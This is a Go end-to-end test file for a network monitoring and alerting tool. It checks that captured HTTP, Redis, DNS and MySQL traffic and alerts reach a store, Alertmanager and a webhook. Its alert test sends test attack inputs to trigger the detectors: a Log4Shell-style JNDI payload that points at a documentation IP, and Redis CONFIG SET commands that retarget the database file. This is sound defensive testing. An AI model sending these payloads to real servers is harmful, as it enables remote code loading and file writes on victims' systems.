package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// builtDir is the folder of the binaries that buildBinary has built; TestMain removes it.
var builtDir atomic.Pointer[string]

// buildBinary builds, once, the static binary that the whole-program tests run, with failpoints, and
// the program that loads the embedded ClickHouse.
var buildBinary = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "tidegate-bin-")
	if err != nil {
		return "", err
	}
	bin := filepath.Join(dir, "bin")
	cmd := exec.Command("go", "build", "-tags", "failpoints", "-o", bin+"/", "tidegate/cmd/tidegate", "tidegate/cmd/tidegate-clickhouse")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("go build: %w: %s", err, out)
	}
	return filepath.Join(bin, "tidegate"), nil
})

func binary(t *testing.T) string {
	t.Helper()
	bin, err := buildBinary()
	if err != nil {
		t.Fatal(err)
	}
	return bin
}

// An e2eSystem is tidegate on a dockerHost: three processes of the host and a collector in a container.
type e2eSystem struct {
	*dockerHost
	binary, stateDir string
	processes        map[string]*exec.Cmd
	webhookFile      string
}

const e2eConfig = `data_dir: %[1]s/state
host: dock1
cluster: e2e
metrics:
  listen: 127.0.0.1:%%d
logs:
  docker_data_root: %[1]s/root
containers:
  docker_host: unix://%[1]s/docker.sock
feeds:
- name: e2e
  path: %[1]s/feed.txt
alerts:
  alertmanager:
  - name: am
    url: http://127.0.0.1:9093
  webhooks:
  - name: hook
    url: http://127.0.0.1:9094/
`

func newE2ESystem(t *testing.T) *e2eSystem {
	host := newDockerHost(t)
	system := &e2eSystem{dockerHost: host, binary: binary(t), stateDir: filepath.Join(host.dir, "state"), processes: map[string]*exec.Cmd{}, webhookFile: filepath.Join(host.dir, "webhook.txt")}
	t.Cleanup(system.stopAll)
	host.check(os.WriteFile(filepath.Join(host.dir, "feed.txt"), []byte("bad.e2e.example,90,e2e\n192.0.2.66\n"), 0o600))
	system.writeConfig("analyze.yaml", 9465)
	system.writeConfig("publish.yaml", 9466)
	system.writeConfig("collect.yaml", 9464)
	system.writeConfig("embedded.yaml", 9467)
	system.startAlertPlatform()
	system.startProcess("embedded", nil, "run", "--only", "broker,store")
	system.waitMetrics(9467)
	system.startProcess("analyze", nil, "analyze")
	system.startProcess("publish", nil, "publish")
	system.buildImage()
	return system
}

func (s *e2eSystem) writeConfig(name string, port int) {
	s.check(os.WriteFile(filepath.Join(s.dir, name), fmt.Appendf(nil, fmt.Sprintf(e2eConfig, s.dir), port), 0o600))
}

// startAlertPlatform starts the real Alertmanager and a receiver of webhooks in the host's namespace.
func (s *e2eSystem) startAlertPlatform() {
	conf := filepath.Join(s.dir, "am.yml")
	s.check(os.WriteFile(conf, []byte("route:\n  receiver: none\nreceivers:\n- name: none\n"), 0o600))
	s.startCommand("alertmanager", s.hostCommand("prometheus-alertmanager", "--config.file="+conf, "--storage.path="+filepath.Join(s.dir, "am"), "--web.listen-address=127.0.0.1:9093", "--cluster.listen-address="))
	self, err := os.Executable()
	s.check(err)
	hook := s.hostCommand(self)
	hook.Env = append(os.Environ(), "TIDEGATE_WORK="+workload{ListenAddr: "127.0.0.1:9094", BodyFile: s.webhookFile}.String())
	s.startCommand("webhook", hook)
	s.waitTCP("127.0.0.1", "9093")
	s.waitTCP("127.0.0.1", "9094")
}

// startProcess runs a process of tidegate in the host's namespace with the configuration of its name.
func (s *e2eSystem) startProcess(name string, env []string, args ...string) {
	s.t.Helper()
	cmd := s.hostCommand(s.binary, append(args, "--config", filepath.Join(s.dir, name+".yaml"), "--log-level", "info")...)
	cmd.Env = append(os.Environ(), env...)
	s.startCommand(name, cmd)
}

func (s *e2eSystem) startCommand(name string, cmd *exec.Cmd) {
	s.t.Helper()
	out, err := os.OpenFile(filepath.Join(s.dir, name+".log"), os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
	s.check(err)
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	s.check(cmd.Start())
	_ = out.Close()
	s.processes[name] = cmd
}

func (s *e2eSystem) killProcess(name string) {
	s.t.Helper()
	cmd := s.processes[name]
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	delete(s.processes, name)
}

// waitExit waits until a process has killed itself.
func (s *e2eSystem) waitExit(name string) {
	s.t.Helper()
	done := make(chan struct{})
	go func() { _ = s.processes[name].Wait(); close(done) }()
	select {
	case <-done:
		delete(s.processes, name)
	case <-time.After(60 * time.Second):
		s.t.Fatalf("%s did not come to the place where it was to be killed\n%s", name, s.logTail(name))
	}
}

func (s *e2eSystem) logTail(name string) []byte {
	output, _ := os.ReadFile(filepath.Join(s.dir, name+".log"))
	return tail(output, 3000)
}

func (s *e2eSystem) stopAll() {
	if s.t.Failed() {
		for _, name := range []string{"embedded", "analyze", "publish"} {
			s.t.Logf("log of %s:\n%s", name, s.logTail(name))
		}
		if out, err := exec.Command("docker", "-H", s.socket(), "logs", "--tail", "40", "collector").CombinedOutput(); err == nil {
			s.t.Logf("log of collector:\n%s", out)
		}
	}
	s.stopProcesses("analyze", "publish", "embedded", "webhook", "alertmanager")
}

// stopProcesses stops processes, one after the other, and requires that each stops in time with exit code 0.
func (s *e2eSystem) stopProcesses(names ...string) {
	for _, name := range names {
		cmd := s.processes[name]
		if cmd == nil {
			continue
		}
		_ = cmd.Process.Signal(syscall.SIGTERM)
		ended := make(chan struct{})
		go func() { _ = cmd.Wait(); close(ended) }()
		select {
		case <-ended:
		case <-time.After(20 * time.Second):
			s.t.Errorf("%s did not end within 20 s of SIGTERM", name)
			_ = cmd.Process.Kill()
			<-ended
		}
	}
}

// buildImage builds the image of the collector as deploy/ documents it: FROM scratch, with only the binary.
func (s *e2eSystem) buildImage() {
	dockerfile, err := filepath.Abs("../../deploy/Dockerfile")
	s.check(err)
	cmd := exec.Command("docker", "-H", s.socket(), "build", "-q", "-f", dockerfile, "-t", "tidegate", filepath.Dir(filepath.Dir(s.binary)))
	cmd.Env = append(os.Environ(), "DOCKER_BUILDKIT=0")
	s.mustRun(cmd)
}

// startCollector starts the container of the collector with exactly the capabilities and mounts of
// deploy/README.md.
func (s *e2eSystem) startCollector() {
	s.t.Helper()
	s.docker("run", "-d", "--name", "collector", "--network", "host", "--cap-drop", "ALL", "--cap-add", "NET_RAW", "--cap-add", "NET_ADMIN", "--read-only",
		"-v", s.dir+"/docker.sock:"+s.dir+"/docker.sock:ro", "-v", s.dir+"/root/containers:"+s.dir+"/root/containers:ro",
		"-v", "tidegate:"+s.stateDir, "-v", s.dir+"/collect.yaml:/etc/tidegate/tidegate.yaml:ro", "-v", s.dir+"/feed.txt:"+s.dir+"/feed.txt:ro",
		"tidegate", "collect", "--log-level", "info")
	s.waitMetrics(9464)
	s.waitMetric(9464, `tidegate_capture_workers{interface="docker0"}`, 1)
	s.waitMetric(9464, `tidegate_capture_workers{interface="eth0"}`, 1)
}

func (s *e2eSystem) fetchMetrics(port int) string {
	out, _ := s.hostCommand("curl", "-sf", fmt.Sprintf("http://127.0.0.1:%d/metrics", port)).Output()
	return string(out)
}

// sumSamples returns the sum of the samples whose name and labels begin with prefix.
func sumSamples(text, prefix string) float64 {
	sum := 0.0
	for line := range strings.SplitSeq(text, "\n") {
		if strings.HasPrefix(line, prefix) {
			value, _ := strconv.ParseFloat(line[strings.LastIndexByte(line, ' ')+1:], 64)
			sum += value
		}
	}
	return sum
}

func (s *e2eSystem) waitMetrics(port int) {
	s.t.Helper()
	s.eventually("metrics at "+strconv.Itoa(port), 40*time.Second, func() string {
		if s.fetchMetrics(port) == "" {
			return "no answer"
		}
		return ""
	})
}

func (s *e2eSystem) waitMetric(port int, name string, least float64) {
	s.t.Helper()
	s.eventually(name, 30*time.Second, func() string {
		if value := sumSamples(s.fetchMetrics(port), name); value < least {
			return fmt.Sprintf("%v, want %v", value, least)
		}
		return ""
	})
}

// eventually waits until f returns no objection.
func (s *e2eSystem) eventually(what string, within time.Duration, check func() string) {
	s.t.Helper()
	var objection string
	for end := time.Now().Add(within); time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
		if objection = check(); objection == "" {
			return
		}
	}
	s.t.Errorf("%s: %s", what, objection)
}

// queryRows runs SQL as `tidegate query` does and returns the rows, split into columns.
func (s *e2eSystem) queryRows(sql string) ([][]string, error) {
	out, err := s.hostCommand(s.binary, "query", "--config", filepath.Join(s.dir, "analyze.yaml"), "-o", "tsv", sql).CombinedOutput()
	if err != nil {
		return nil, fmt.Errorf("query: %w: %s", err, out)
	}
	var rows [][]string
	for line := range strings.Lines(string(out)) {
		rows = append(rows, strings.Split(strings.TrimSuffix(line, "\n"), "\t"))
	}
	if len(rows) == 0 {
		return nil, fmt.Errorf("query %s: no header", sql)
	}
	return rows[1:], nil
}

// expectRows waits until a query returns these rows, with a blank between columns.
func (s *e2eSystem) expectRows(what, sql string, want ...string) {
	s.t.Helper()
	s.eventually(what, 60*time.Second, func() string {
		rows, err := s.queryRows(sql)
		if err != nil {
			return err.Error()
		}
		var got []string
		for _, row := range rows {
			got = append(got, strings.Join(row, " "))
		}
		if strings.Join(got, "\n") != strings.Join(want, "\n") {
			return fmt.Sprintf("got\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
		}
		return ""
	})
}

// expectEndpoints requires that the store has the transactions of a case between these two ends.
func (s *e2eSystem) expectEndpoints(kind, dataset, field, like string, want string) {
	s.t.Helper()
	s.expectRows(kind, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), countIf("event.partial"), arrayStringConcat(arraySort(groupUniqArray(concat("source.ip", '/', "source.container.name", ' ', "destination.ip", ':', toString("destination.port"), '/', "destination.container.name"))), ',')
		FROM events WHERE "event.dataset" = '%s' AND "%s" LIKE '%s'`, dataset, field, like), want)
}

// TestEndToEnd runs everything on a Docker host: traffic on every path, logs without a pause, alerts at
// Alertmanager and a webhook. Meanwhile the collector, the engine and the store are killed.
func TestEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts a Docker host")
	}
	system := newE2ESystem(t)
	system.startServers()
	system.docker("network", "create", "second")
	for _, name := range []string{"web", "cache", "db", "dns"} {
		system.docker("network", "connect", "second", name)
	}
	system.startCollector()
	t.Run("ways", system.testPaths)
	t.Run("alerts", system.testAlerts)
	t.Run("kills", system.testKills)
	system.expectRows("every event is there once", `SELECT count() = uniqExact("event.id"), count() = uniqExact((_partition, _offset, _index)) FROM events`, "1 1")
	system.expectRows("no alert is there twice", `SELECT count() = uniqExact(id, revision) FROM alerts`, "1")
}

func (s *e2eSystem) withTest(t *testing.T) *e2eSystem {
	bound, host := *s, *s.dockerHost
	host.t = t
	bound.dockerHost = &host
	return &bound
}

// testPaths sends traffic on every path and requires each transaction once, between the right ends.
func (s *e2eSystem) testPaths(t *testing.T) {
	s = s.withTest(t)
	const n = 40
	at := func(name, network string) string { return s.containerAddress(name, network, "4") }
	client := func(name string, task workload, options ...string) string {
		task.Transactions = n
		s.runClient(task, append([]string{"--name", name}, options...)...)
		return name
	}
	bridge := workload{Case: "bridge", HTTP: at("web", "bridge") + ":8080", Redis: at("cache", "bridge") + ":6379", DNS: at("dns", "bridge") + ":53", MySQL: at("db", "bridge") + ":3306"}
	client("c-bridge", bridge)
	second := workload{Case: "second", HTTP: at("web", "second") + ":8080", Redis: at("cache", "second") + ":6379", DNS: at("dns", "second") + ":53", MySQL: at("db", "second") + ":3306"}
	client("c-second", second, "--network", "second")
	web6 := s.containerAddress("web", "bridge", "6")
	client("c-six", workload{Case: "six", HTTP: "[" + web6 + "]:8080", Redis: "[" + s.containerAddress("cache", "bridge", "6") + "]:6379"})
	for name, addr := range map[string]string{"published": hostIP + ":9090", "routed": at("web", "bridge") + ":8080", "routed6": "[" + web6 + "]:8080"} {
		s.mustRun(s.visitorCommand(workload{Case: name, Transactions: n, HTTP: addr}))
	}
	server := s.visitorCommand(workload{ListenAddr: outsideIP + ":8000"})
	s.check(server.Start())
	s.eventually("a server outside", 10*time.Second, func() string {
		if err := s.hostCommand("curl", "-sf", "http://"+outsideIP+":8000/").Run(); err != nil {
			return err.Error()
		}
		return ""
	})
	client("c-out", workload{Case: "out", HTTP: outsideIP + ":8000"})
	s.check(server.Process.Kill())
	_ = server.Wait()

	counts := fmt.Sprintf("%d %d 0 ", n, n)
	s.expectHTTP("bridge", n, "c-bridge", "web", at("web", "bridge"), 8080)
	s.expectHTTP("second", n, "c-second", "web", at("web", "second"), 8080)
	s.expectHTTP("six", n, "c-six", "web", web6, 8080)
	s.expectEndpoints("published http", "http", "url.path", "/e2e/published/%", counts+outsideIP+"/ "+at("web", "bridge")+":8080/web")
	s.expectEndpoints("routed http", "http", "url.path", "/e2e/routed/%", counts+outsideIP+"/ "+at("web", "bridge")+":8080/web")
	s.expectEndpoints("routed http over IPv6", "http", "url.path", "/e2e/routed6/%", counts+outsideIP6+"/ "+web6+":8080/web")
	s.expectRows("http through SNAT", fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("container.name") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/out/%%' AND "destination.ip" = '%s'`, outsideIP), fmt.Sprintf("%d %d c-out c-out", n, n))
	s.expectRows("the address outside of a published port", `SELECT DISTINCT "destination.nat.ip", "destination.nat.port" FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/published/%' ORDER BY 1`, hostIP+" 9090")
	s.expectRows("labels travel", `SELECT DISTINCT container_labels['app'], "container.image.name", "host.name", "orchestrator.cluster.name" FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/bridge/%'`, "shop skel dock1 e2e")
	for _, name := range []string{"bridge", "second", "six"} {
		s.expectRows("redis "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("destination.container.name") FROM events WHERE "event.dataset" = 'redis' AND "redis.command" = 'SET' AND "redis.key" LIKE 'e2e:%s:%%'`, name), fmt.Sprintf("%d %d c-%s cache", n, n, name))
	}
	for _, name := range []string{"bridge", "second"} {
		s.expectRows("dns "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("destination.container.name"), any(dns_answers_data[1]) FROM events WHERE "event.dataset" = 'dns' AND "dns.question.name" LIKE 'n%%.%s.e2e.example'`, name), fmt.Sprintf("%d %d c-%s dns 192.0.2.10", n, n, name))
		s.expectRows("mysql "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("destination.container.name"), sum("mysql.rows") FROM events WHERE "event.dataset" = 'mysql' AND "mysql.command" = 'COM_QUERY' AND "mysql.query" LIKE 'SELECT ''e2e-%s-%%'`, name), fmt.Sprintf("%d %d c-%s db %d", n, n, name, n))
	}
	s.expectRows("every line of nginx", `SELECT count(), uniqExact(message) FROM events WHERE "event.dataset" = 'log' AND "container.name" = 'web' AND message LIKE '%GET /e2e/bridge/%'`, fmt.Sprintf("%d %d", n, n))
}

func (s *e2eSystem) expectHTTP(name string, requests int, client, server, addr string, port int) {
	s.t.Helper()
	s.expectRows("http "+name, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), countIf("event.partial"), any("source.container.name"), any("destination.container.name"), any("container.name"), any("destination.ip"), any("destination.port"), uniqExact("source.ip") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/%s/%%'`, name),
		fmt.Sprintf("%d %d 0 %s %s %s %s %d 1", requests, requests, client, server, server, addr, port))
}

// testAlerts raises one alert of each kind and requires it at Alertmanager and at the webhook.
func (s *e2eSystem) testAlerts(t *testing.T) {
	s = s.withTest(t)
	web, cache, dns := s.containerAddress("web", "bridge", "4"), s.containerAddress("cache", "bridge", "4"), s.containerAddress("dns", "bridge", "4")
	s.runContainer("--name", "intruder", "--", "bash", "-c", fmt.Sprintf(
		"curl -s -A '${jndi:ldap://192.0.2.66/a}' http://%s:8080/x; redis-cli -h %s CONFIG SET dir /tmp; redis-cli -h %s CONFIG SET dbfilename x; true", web, cache, cache))
	for _, name := range []string{"www.bad.e2e.example", "xjq7kvw2zt9hpb4m.e2e.example", "xjq7kvw2zt9hpb4m.example"} {
		s.runClient(workload{Case: "lookup", Transactions: 1, DNS: dns + ":53", QueryName: name}, "--rm")
	}
	for _, detector := range []string{"rules", "feeds", "classifier"} {
		s.expectRows("alert of "+detector, fmt.Sprintf("SELECT count() > 0 FROM alerts_now WHERE detector = '%s'", detector), "1")
		s.eventually("alert of "+detector+" at Alertmanager", 30*time.Second, func() string {
			out, err := s.hostCommand("curl", "-sf", "http://127.0.0.1:9093/api/v2/alerts").Output()
			if err != nil {
				return err.Error()
			}
			var list []struct {
				Labels, Annotations map[string]string
			}
			if err := json.Unmarshal(out, &list); err != nil {
				return err.Error()
			}
			for _, alert := range list {
				if alert.Labels["detector"] == detector {
					return ""
				}
			}
			return string(out)
		})
		s.eventually("alert of "+detector+" at the webhook", 30*time.Second, func() string {
			received, _ := os.ReadFile(s.webhookFile)
			for lines := bufio.NewScanner(strings.NewReader(string(received))); lines.Scan(); {
				key, body, _ := strings.Cut(lines.Text(), " ")
				if key != "" && strings.Contains(body, `"detector":"`+detector+`"`) {
					return ""
				}
			}
			return string(received)
		})
	}
}
